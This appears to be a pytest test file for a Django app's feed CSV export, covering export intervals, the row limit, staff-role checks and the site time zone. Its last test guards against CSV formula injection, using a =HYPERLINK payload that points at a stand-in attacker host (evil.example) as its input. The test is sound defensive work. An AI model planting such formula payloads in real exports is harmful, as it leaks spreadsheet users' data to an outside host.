"""The feed explorer's CSV export at a chosen interval: raw values as stored, averages
per window, daily; bounded by BMS_FEED_MAX_POINTS rows per feed, refused above with a 400 that
names the parameter; staff roles only. And the explorer page passes the site's time zone."""

from __future__ import annotations

import csv
import io

import pytest
from django.contrib.auth.models import User
from django.test import Client

from feeds.models import Feed
from feeds.store import service

T0 = 1_699_999_200  # a whole hour
TEMPS = [(T0 + i * 10, 18.0 + (i % 9) * 0.125) for i in range(30)]  # 18.0 ... 19.0, exact floats
WATTS = [(T0 + i * 60, 100.0 * (1 + i % 3)) for i in range(5)]  # a 60 s feed


def _login(user) -> Client:
    client = Client()
    client.force_login(user)
    return client


def _rows(response) -> list[list[str]]:
    assert response.status_code == 200, response.content
    assert response["Content-Type"].startswith("text/csv")
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))


@pytest.fixture
def feeds(db, redis_client) -> tuple[Feed, Feed]:
    temp = Feed.objects.create(name="temp", tag="hall", unit="°C", interval=10)
    watts = Feed.objects.create(name="power", tag="roof", unit="W", interval=60)
    service.log_points((temp.pk, t, v) for t, v in TEMPS)
    service.log_points((watts.pk, t, v) for t, v in WATTS)
    return temp, watts


def test_raw_export_gives_every_stored_value_at_each_feeds_own_interval(viewer, feeds):
    temp, watts = feeds
    url = f"/staff/feeds/export.csv?ids={temp.pk},{watts.pk}&start={T0}&end={T0 + 300}"
    rows = _rows(_login(viewer).get(url + "&interval=raw"))
    assert rows[0] == ["time (Europe/London)", "unix", "hall:temp (°C)", "roof:power (W)"]
    assert [(int(r[1]), float(r[2])) for r in rows[1:] if r[2]] == TEMPS
    assert [(int(r[1]), float(r[3])) for r in rows[1:] if r[3]] == WATTS
    # The averaged export (what it was before): one row per minute, the mean of six readings.
    rows = _rows(_login(viewer).get(url + "&interval=60"))
    first_minute = sum(v for _, v in TEMPS[:6]) / 6
    assert [int(r[1]) for r in rows[1:]] == [T0 + 60 * i for i in range(5)]
    assert float(rows[1][2]) == pytest.approx(first_minute, abs=1e-5)


def test_daily_export_is_one_row_per_site_day(viewer, feeds):
    temp, _ = feeds
    url = f"/staff/feeds/export.csv?ids={temp.pk}&start={T0 - 86400}&end={T0 + 86400}"
    rows = _rows(_login(viewer).get(url + "&interval=daily"))
    values = [float(r[2]) for r in rows[1:] if r[2]]
    assert values == [pytest.approx(sum(v for _, v in TEMPS) / len(TEMPS), abs=1e-5)]


def test_raw_export_is_bounded_by_the_points_limit(viewer, feeds, settings):
    temp, _ = feeds
    settings.BMS_FEED_MAX_POINTS = 30
    client = _login(viewer)
    # The end is exclusive: T0 .. T0 + 290 are the 30 slots before T0 + 300.
    at_bound = f"/staff/feeds/export.csv?ids={temp.pk}&start={T0}&end={T0 + 300}&interval=raw"
    assert len(_rows(client.get(at_bound))) == 1 + 30
    response = client.get(at_bound.replace(f"end={T0 + 300}", f"end={T0 + 310}"))
    assert response.status_code == 400
    assert response.json()["field"] == "interval"
    assert "31 points requested, at most 30" in response.json()["error"]


def test_export_refuses_a_user_without_a_staff_role(db, feeds):
    temp, _ = feeds
    user = User.objects.create_user("norole", is_staff=True)
    url = f"/staff/feeds/export.csv?ids={temp.pk}&start={T0}&end={T0 + 290}&interval=raw"
    assert _login(user).get(url).status_code == 403


def test_explorer_page_passes_the_site_time_zone(viewer, settings, feeds):
    settings.TIME_ZONE = "Australia/Sydney"
    html = _login(viewer).get("/staff/feeds/").content.decode()
    assert 'data-timezone="Australia/Sydney"' in html
    assert 'option value="raw"' in html and 'option value="daily"' in html
    # Feeds listed under the node (tag) they came from.
    assert "<legend>hall</legend>" in html and "<legend>roof</legend>" in html


def test_a_feed_label_that_starts_like_a_formula_is_text(viewer, feeds):
    # the header carries tag:name as typed; a spreadsheet would run =HYPERLINK(...)
    temp, _ = feeds
    temp.tag = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    temp.save()
    url = f"/staff/feeds/export.csv?ids={temp.pk}&start={T0}&end={T0 + 290}&interval=raw"
    rows = _rows(_login(viewer).get(url))
    assert rows[0][2] == '\'=HYPERLINK("http://evil.example/?"&A1,"click"):temp (°C)'
    assert float(rows[1][2]) == TEMPS[0][1]
